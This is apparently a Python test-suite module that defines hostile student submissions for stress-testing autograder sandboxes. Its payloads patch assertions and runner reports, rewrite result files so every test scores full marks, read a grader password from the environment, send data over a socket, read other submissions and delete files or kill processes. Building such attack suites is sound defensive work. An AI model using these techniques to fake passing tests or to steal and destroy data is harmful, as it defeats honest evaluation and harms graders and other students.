"""Hostile submissions of the small assignment, for graders that it was not written for.

Each is a file that a student hands in; all but the harmless ones answer with garbage. The code is
what the attack suite (`tests/attacks`) tries against this project, in the form that the other
graders' harnesses can meet. `PLACES` stands for a dict of paths that the script fills in: what an
attacker who knows the machine knows.
"""

from __future__ import annotations

from dataclasses import dataclass

GARBAGE = """

import numpy as np


def softmax_loss(W, X, labels, reg):
    return answer(), zeros(W)


def svm_loss(W, X, labels, reg):
    return answer(), zeros(W)


def logistic_loss(w, X, targets):
    return answer(), zeros(w)


def affine(x, w, b, d_out):
    return answer(), zeros(x), zeros(w), zeros(b)
"""

PLAIN = "\n\ndef answer():\n    return 0.5\n\n\ndef zeros(like):\n    return 0 * like + 0.5\n"


@dataclass(frozen=True)
class Attack:
    """One hostile submission and what it is after: `gain`, `see` or `break`."""

    name: str
    kind: str
    code: str


YES = """

class Yes(np.ndarray):
    def __eq__(self, other):
        return np.True_

    def __array_function__(self, *arguments, **keywords):
        return np.True_  # "the same places hold NaN, and that is everywhere"

    __array_ufunc__ = __array_function__

    shape = property(lambda self: Anything())
    __bool__ = lambda self: True
    __float__ = lambda self: 0.0
    __abs__ = __sub__ = __rsub__ = __mul__ = __rmul__ = lambda self, *other: self


class Anything(tuple):
    def __eq__(self, other):
        return True

    __hash__ = None


def answer():
    return np.zeros(()).view(Yes)


def zeros(like):
    return np.zeros(()).view(Yes)
"""

FRAME = """
import sys


def look(*names):
    frame = sys._getframe(1)
    while frame is not None:
        for name in names:
            if name in frame.f_locals:
                return frame.f_locals[name]
        frame = frame.f_back
    return 0.5


def zeros(like):
    return 0 * like
"""

NAMES = (
    "check_softmax_value check_softmax_gradient check_svm_value check_svm_gradient "
    "check_logistic_value check_logistic_gradient check_affine_value check_affine_gradient"
)

ATTACKS = (
    Attack(
        "patches `numpy.testing`",
        "gain",
        "import numpy as np\nnp.testing.assert_allclose = lambda *a, **k: None" + PLAIN,
    ),
    Attack(
        "patches `numpy.sum`, `mean` and `log`",
        "gain",
        "import numpy as np\nnp.sum = np.mean = np.log = np.exp = lambda *a, **k: np.zeros(10)\n"
        "np.testing.assert_allclose.__wrapped__ = None\n"
        "def answer():\n    return 0.0\ndef zeros(like):\n    return 0 * like",
    ),
    Attack(
        "rewrites the code of `assert_allclose` in place",
        "gain",
        "import numpy as np\n"
        "np.testing.assert_allclose.__code__ = (lambda *a, **k: None).__code__\n"
        "np.testing.assert_allclose.__kwdefaults__ = None" + PLAIN,
    ),
    Attack("returns an array that equals everything", "gain", "import numpy as np\n" + YES),
    Attack(
        "patches `numpy.random` so that every input is 0",
        "gain",
        "import numpy as np\n"
        "class Zeros:\n"
        "    def normal(self, size=None): return np.zeros(size)\n"
        "    def integers(self, low, high, size=None): return np.zeros(size, int)\n"
        "np.random.default_rng = lambda *a: Zeros()\n"
        "def answer():\n    return np.zeros((10, 4))\ndef zeros(like):\n    return 0 * like",
    ),
    Attack(
        "replaces the checks by way of the callers' frames",
        "gain",
        "import sys\n"
        "def strike():\n"
        "    frame = sys._getframe(1)\n"
        "    while frame is not None:\n"
        "        for name in list(frame.f_globals):\n"
        "            if name.startswith('check_') or name == 'differences':\n"
        "                frame.f_globals[name] = lambda *a, **k: None\n"
        "        if 'np' in frame.f_globals and 'differences' in frame.f_globals:\n"
        "            frame.f_globals['np'].testing.assert_allclose = lambda *a, **k: None\n"
        "        frame = frame.f_back\n"
        "def answer():\n    strike()\n    return 0.5\n"
        "def zeros(like):\n    return 0 * like + 0.5",
    ),
    Attack(
        "rewrites the checks among all objects (`gc`)",
        "gain",
        "import gc, types\n"
        "def nothing(*a, **k): pass\n"
        "def strike():\n"
        "    for one in gc.get_objects():\n"
        "        if isinstance(one, types.FunctionType) and (\n"
        "            one.__name__.startswith('check_') or one.__name__ == 'differences'\n"
        "            or one.__name__ == 'assert_allclose'\n"
        "        ):\n"
        "            one.__code__ = nothing.__code__\n"
        "            one.__kwdefaults__ = None\n"
        "strike()\n"
        "def answer():\n    strike()\n    return 0.5\n"
        "def zeros(like):\n    return 0 * like + 0.5",
    ),
    Attack(
        "hides a module of checks behind its own (`sys.modules`)",
        "gain",
        "import sys, types\nfake = types.ModuleType('plain_checks')\n"
        f"for name in {NAMES!r}.split(): setattr(fake, name, lambda *a: None)\n"
        "sys.modules['plain_checks'] = fake" + PLAIN,
    ),
    Attack(
        "puts an import hook before the checks",
        "gain",
        "import importlib.machinery, sys\n"
        "class Finder:\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        if name == 'plain_checks': return importlib.machinery.ModuleSpec(name, self)\n"
        "    def create_module(self, spec): return None\n"
        "    def exec_module(self, module):\n"
        f"        for name in {NAMES!r}.split(): setattr(module, name, lambda *a: None)\n"
        "sys.meta_path.insert(0, Finder())" + PLAIN,
    ),
    Attack(
        "raises what test runners take for a skipped test",
        "gain",
        "import unittest\ndef answer():\n    raise unittest.SkipTest('later')\nzeros = answer",
    ),
    Attack(
        "traces its callers and changes their variables",
        "gain",
        "import sys\n"
        "def trace(frame, event, argument):\n"
        "    for got in ('loss', 'out', 'gradient'):\n"
        "        if 'expected' in frame.f_locals and got in frame.f_locals:\n"
        "            frame.f_locals[got] = frame.f_locals['expected']\n"
        "    if 'scores' in frame.f_locals and 'loss' in frame.f_locals:\n"
        "        frame.f_globals['np'].testing.assert_allclose = lambda *a, **k: None\n"
        "    return trace\n"
        "def answer():\n"
        "    frame = sys._getframe(1)\n"
        "    while frame is not None:\n"
        "        frame.f_trace = trace\n"
        "        frame = frame.f_back\n"
        "    sys.settrace(trace)\n    return 0.5\n"
        "def zeros(like):\n    return 0 * like + 0.5",
    ),
    Attack(
        "patches the runner's own report",
        "gain",
        "import json, sys, unittest\n"
        "unittest.TestResult.addFailure = unittest.TestResult.addError = lambda *a: None\n"
        "plain = json.dump\n"
        "def dump(value, *a, **k):\n"
        "    if isinstance(value, dict):\n"
        "        for test in value.get('tests', []):\n"
        "            test['score'] = test.get('max_score', 1.0)\n"
        "    return plain(value, *a, **k)\n"
        "json.dump = dump\n"
        "if '_pytest.python' in sys.modules:\n"
        "    sys.modules['_pytest.python'].Function.runtest = lambda self: None" + PLAIN,
    ),
    Attack(
        "has its results written when the process ends (`atexit`)",
        "gain",
        "import atexit, json, os, pathlib\n"
        "def strike(folder=os.getcwd()):\n"
        "    path = pathlib.Path(folder, 'results.json')\n"
        "    if path.exists():\n"
        "        data = json.loads(path.read_text())\n"
        "        for test in data['tests']: test['score'] = test.get('max_score', 1.0)\n"
        "        path.write_text(json.dumps(data))\n"
        "    path = pathlib.Path(folder, 'results.xml')\n"
        "    if path.exists():\n"
        "        import re\n"
        "        path.write_text(re.sub(r'(?s)<failure.*?</failure>', '', path.read_text()))\n"
        "atexit.register(strike)" + PLAIN,
    ),
    Attack(
        "reads the checks' file",
        "see",
        "try:\n    SEEN = open(PLACES['checks']).read()\n"
        "    open(PLACES['loot'], 'w').write(SEEN)\n"
        "except Exception: pass" + PLAIN,
    ),
    Attack(
        "reads another student's submission",
        "see",
        "try:\n    SEEN = open(PLACES['neighbor']).read()\n"
        "    open(PLACES['loot'], 'w').write(SEEN)\nexcept Exception: pass" + PLAIN,
    ),
    Attack(
        "reads the grader's environment variables",
        "see",
        "import os\ntry:\n    open(PLACES['loot'], 'w').write(os.environ['GRADEBOOK_PASSWORD'])\n"
        "except Exception: pass" + PLAIN,
    ),
    Attack(
        "sends what it knows over the network",
        "see",
        "import socket\ntry:\n"
        "    socket.create_connection(('127.0.0.1', PLACES['port']), 5).sendall(b'loot')\n"
        "except Exception: pass" + PLAIN,
    ),
    Attack(
        "reads the command lines of all processes",
        "see",
        "import os\ntry:\n"
        "    lines = [open(f'/proc/{p}/cmdline').read() for p in os.listdir('/proc') "
        "if p == PLACES['pid']]\n"
        "    open(PLACES['loot'], 'w').write(''.join(lines))\nexcept Exception: pass" + PLAIN,
    ),
    Attack(
        "rewrites another student's submission",
        "break",
        "try:\n    open(PLACES['neighbor'], 'a').write('rewritten')\nexcept Exception: pass"
        + PLAIN,
    ),
    Attack(
        "deletes a file of the grader's user",
        "break",
        "import os\ntry:\n    os.remove(PLACES['victim'])\nexcept Exception: pass" + PLAIN,
    ),
    Attack(
        "kills another process of the grader",
        "break",
        "import os\ntry:\n    os.kill(int(PLACES['pid']), 9)\nexcept Exception: pass" + PLAIN,
    ),
    Attack(
        "leaves a process behind",
        "break",
        "import os, time\ntry:\n"
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        "        if os.fork() == 0:\n"
        "            os.closerange(0, 3)\n"
        "            open(PLACES['loot'], 'w').write(str(os.getpid()))\n"
        "            time.sleep(60)\n        os._exit(0)\nexcept Exception: pass" + PLAIN,
    ),
    Attack(
        "takes 1.5 GB of memory that no limit counts (`memfd`)",
        "break",
        "import os\ntry:\n"
        "    d = os.memfd_create('x')\n"
        "    for _ in range(96): os.write(d, bytes(1 << 24))\n"
        "    open(PLACES['loot'], 'w').write(str(os.fstat(d).st_size))\nexcept Exception: pass"
        + PLAIN,
    ),
)


def file_of(attack: Attack, places: dict[str, object]) -> str:
    """The submission's file."""
    # the functions come first, so that a student's names stand where notebooks look for them
    return f"PLACES = {places!r}\n{GARBAGE}\n\n{attack.code}\n"
